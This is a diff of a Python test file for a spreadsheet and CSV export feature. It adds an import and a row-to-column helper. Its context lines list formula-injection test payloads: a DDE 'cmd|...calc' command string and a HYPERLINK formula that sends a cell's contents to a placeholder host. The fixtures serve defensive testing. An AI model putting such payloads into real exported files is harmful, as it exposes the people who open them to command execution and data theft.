@@ -15,8 +15,9 @@ from openpyxl import load_workbook
 
 from fujie.app.cli.export_files import Kept, Sheet
 from fujie.app.cli.sheets import BadFile
-from fujie.decision.mask import Shown
-from fujie.flows.export_file import closing, harmless, lines, opening
+from fujie.decision.mask import OMITTED, Shown
+from fujie.flows.export_file import closing, harmless, opening
+from fujie.flows.export_file import lines as lines_of
 from fujie.model.export import Export, Format
 
 NOW = datetime(2026, 11, 20, 2, 0, tzinfo=UTC)
@@ -24,6 +25,11 @@ SIGNS = "=+-@＝＋－＠"
 BEFORE = ["", " ", "\t", "\n", "\r\n", '"', "'", "\u3000", "\ufeff", " \" '\t", "\u00a0", "\x0b", "\u200b"]
 BEFORE += ["  ", '\u3000" ', " " * 64, " " * 65, " " * 300]
 PAYLOADS = ["cmd|'/c calc'!A0", 'HYPERLINK("http://x.example/"&A1)', "1+1", "SUM(1)*cmd|' /C calc'!A0"]
+
+
+def lines(form: Format, names: Sequence[str], rows: Sequence[Mapping[str, Any]]) -> bytes:
+    """Write rows given by name, as a flow does that has them by column."""
+    return lines_of(form, names, [[row.get(name, OMITTED) for row in rows] for name in names])
 
 
 def table(rows: Sequence[Mapping[str, Any]], columns: tuple[str, ...] = ("a", "b")) -> list[list[str]]:
